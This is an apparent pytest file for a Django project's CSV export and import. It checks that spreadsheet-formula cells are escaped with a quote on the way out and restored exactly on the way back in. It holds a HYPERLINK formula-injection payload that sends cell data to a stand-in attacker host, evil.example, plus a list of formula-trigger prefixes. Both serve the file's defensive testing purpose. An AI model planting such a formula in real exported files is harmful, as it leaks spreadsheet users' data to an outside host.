"""Tables that go out harmless come back as they were."""

import csv
import io

import pytest

from analytics.measured.identity_leaks import silent_pair_lines
from campaigns.launch.pair_files import find_pairs, read_pairs
from campaigns.rubrics.tables import criteria_lines, read_criteria
from corpus.models import Item, System
from infrastructure.files.csv_files import harmless, plain
from tests.campaigns.rubrics import drafted, rubric_campaign
from tests.cases import each
from tests.factories import make_campaign

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
RUN = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "'=1+1")


@each("text", RUN)
def test_what_a_spreadsheet_would_run_is_text_and_comes_back(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert plain(harmless(text)) == text


def first_cells(lines: str) -> list[str]:
    return [cell[:1] for row in csv.reader(io.StringIO(lines)) for cell in row]


@pytest.mark.django_db
def test_criteria_go_out_harmless_and_come_back_as_they_were() -> None:
    campaign = rubric_campaign(units=1)
    campaign.dataset.items.update(key="+item")
    drafted(campaign, key="+item", texts=(FORMULA, "Is it plain?"))

    table = "".join(criteria_lines(campaign))

    assert not {"=", "+"} & set(first_cells(table))
    assert [(row.item, row.text) for row in read_criteria(table)] == [("+item", FORMULA), ("+item", "Is it plain?")]


@pytest.mark.django_db
def test_pairs_without_names_go_out_harmless_and_are_found_again() -> None:
    dataset = make_campaign(units=1).dataset
    System.objects.filter(pk=min(dataset.systems.values_list("pk", flat=True))).update(name=FORMULA)
    Item.objects.filter(dataset=dataset).update(key="@item")

    table = "".join(silent_pair_lines(dataset))

    [(a, b)] = find_pairs(dataset, read_pairs(table))
    assert {a.system.name, b.system.name} == {FORMULA, "Quokkawise"}
    assert not {"=", "@"} & set(first_cells(table))
